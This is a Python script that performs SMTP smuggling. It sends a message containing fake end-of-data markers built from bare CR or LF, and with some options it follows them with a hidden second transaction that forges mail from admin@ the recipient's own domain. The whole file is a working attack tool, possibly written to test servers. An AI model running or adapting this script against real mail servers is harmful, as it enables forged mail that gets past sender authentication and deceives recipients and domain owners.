#!/usr/bin/python3
"""Puts an end-of-data look-alike into a message: a dot on a line of its own whose line ends are not CRLF on both sides.

    lookalike.py SERVER HELO SENDER RECIPIENT FORM [BEHIND]
FORM names what stands around the dot: lf.lf, lf.crlf, crlf.lf, cr.cr, crlf.cr, lf.cr, cr.lf, cr.crlf. BEHIND is what follows it:
text (the default), mail (MAIL, RCPT, DATA and a second message), helo (the same after EHLO), rset (RSET, then the same), quit. The true
end of data, CRLF.CRLF, is always sent. Then QUIT; what the server says is read to the end.
"""
import sys

from wire import Closed, Wire

server, helo, sender, rcpt, form = sys.argv[1:6]
behind = sys.argv[6] if len(sys.argv) > 6 else "text"
ENDS = {"cr": "\r", "lf": "\n", "crlf": "\r\n"}
before, after = form.split(".")
mark = ENDS[before] + "." + ENDS[after]


def header(subject, number):
    host = sender.split("@")[1]
    return (f"Received: from ws4.{host} ([10.1.2.4]) by {helo}; Thu, 5 Mar 2026 10:00:00 +0100\r\n"
            f"From: {sender}\r\nTo: {rcpt}\r\nSubject: {subject}\r\nDate: Thu, 5 Mar 2026 10:00:00 +0100\r\n"
            f"Message-ID: <{form}.{behind}.{number}@{helo}>\r\n\r\n")


def second():
    return (f"MAIL FROM:<admin@{rcpt.split('@')[1]}>\r\nRCPT TO:<{rcpt}>\r\nDATA\r\n" + header("smuggled", 2)
            + "Nobody has checked this one.\r\n")


FOLLOW = {"text": "So the text goes on.\r\n", "mail": second(), "helo": f"EHLO {helo}\r\n" + second(),
          "rset": "RSET\r\n" + second(), "quit": "QUIT\r\n"}
w = Wire(server)
try:
    for command in (f"EHLO {helo}", f"MAIL FROM:<{sender}>", f"RCPT TO:<{rcpt}>", "DATA"):
        w.say(command)
    w.send(header(f"look-alike {form}", 1) + "The first part of the text" + mark + FOLLOW[behind] + ".\r\n")
    w.reply()
    w.pause(0.3)
    w.send("QUIT\r\n")
except (Closed, ConnectionError):
    pass
w.close()
